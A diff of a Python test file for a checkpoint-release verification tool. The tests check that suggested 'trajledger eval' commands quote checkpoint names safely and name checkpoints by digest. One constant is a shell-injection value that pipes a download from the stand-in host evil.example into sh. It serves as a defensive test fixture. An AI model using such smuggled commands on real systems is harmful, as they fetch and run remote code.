@@ -16,7 +16,7 @@ import pytest
 import testkit
 
 from trajledger.verify.release_rules import Requirement
-from trajledger.verify.report import Node, Report
+from trajledger.verify.report import Edge, Node, Report
 
 EVIL = "bc'; curl evil.example | sh; echo '"
 """A checkpoint's (or suite's) signed name that closes the prose quote and runs a command."""
@@ -41,12 +41,38 @@ def test_the_contamination_step_names_the_checkpoint_as_one_shell_word() -> None
     rec = testkit.unchecked_evaluation(EVIL)
     release_requirement(node, Requirement("regression@1", min=0.5), ck.id, rec, None, [], None,
                         train=lambda _ck: {"sha256:" + "a" * 64: ["train x@1"]}, strict=True)
-    report = Report(node.id, [node.id], {node.id: node, ck.id: ck}, [])
+    report = Report(node.id, [node.id], {node.id: node, ck.id: ck},
+                    [Edge(node.id, ck.id, "checkpoint")])
     _lines, steps = _refusal(report, node.id, f"{EVIL}@1", "approve")
     assert len(steps) == 1, steps
-    for text in (steps[0], node.checks[-1].detail):  # the step, and the check's line
-        assert argv(text, "trajledger eval", "--key KEY") == [
-            "trajledger", "eval", f"{EVIL}@1", "--suite", "regression@1", "--key", "KEY"], text
+    assert argv(steps[0], "trajledger eval", "--key KEY") == [
+        "trajledger", "eval", f"{EVIL}@1", "--suite", "regression@1", "--key", "KEY"], steps
+
+
+@pytest.mark.parametrize("released", [True, False])
+def test_the_contamination_line_names_the_checkpoint_evaluated_by_its_digest(
+        released: bool) -> None:
+    """rev48 finding 8: the check's line (``verify``, ``python -m trajledger.verify``) named
+    the checkpoint to evaluate again by the evaluation's name for it, its signer's text (an
+    evaluator names the checkpoint of digest D ``prod@3``; after a name clash, the vendor's
+    evaluation names the buyer's own): ``run 'trajledger eval prod@3 …'`` evaluated another
+    checkpoint. Its digest now; ``release``'s step the released checkpoint's name as commands
+    find it (finding 6), another checkpoint's digest."""
+    from trajledger.runner.release import _refusal
+    from trajledger.verify.releases import release_requirement
+
+    node = Node("release:x", "release-decision")
+    ck = Node("sha256:" + "c" * 64, "checkpoint", name="bc", version="1")
+    release_requirement(node, Requirement("regression@1", min=0.5), ck.id,
+                        testkit.unchecked_evaluation("prod"), None, [], None,
+                        train=lambda _ck: {"sha256:" + "a" * 64: ["train x@1"]}, strict=True)
+    told = argv(node.checks[-1].detail, "trajledger eval", "--key KEY")
+    assert told[2] == ck.id, node.checks[-1].detail
+    edges = [Edge(node.id, ck.id, "checkpoint")] if released else []
+    _lines, steps = _refusal(Report(node.id, [node.id], {node.id: node, ck.id: ck}, edges),
+                             node.id, "bc@1", "approve")
+    assert argv(steps[0], "trajledger eval", "--key KEY")[2] == ("bc@1" if released
+                                                                  else ck.id), steps
 
 
 def _failing_evaluator(suite: str) -> tuple[Report, str]:
@@ -57,8 +83,6 @@ def _failing_evaluator(suite: str) -> tuple[Report, str]:
     on = Node("sha256:" + "d" * 64, "dataset", name=suite, version="1")
     judge = Node("sha256:" + "f" * 64, "evaluator", name="judge", version="1")
     judge.fail("revocation", "revoked at log index 9")
-    from trajledger.verify.report import Edge
-
     edges = [Edge(decision.id, ck.id, "checkpoint"), Edge(decision.id, run.id, "evaluation"),
              Edge(run.id, on.id, "suite"), Edge(run.id, judge.id, "evaluator")]
     nodes: dict[str, Any] = {n.id: n for n in (decision, ck, run, on, judge)}
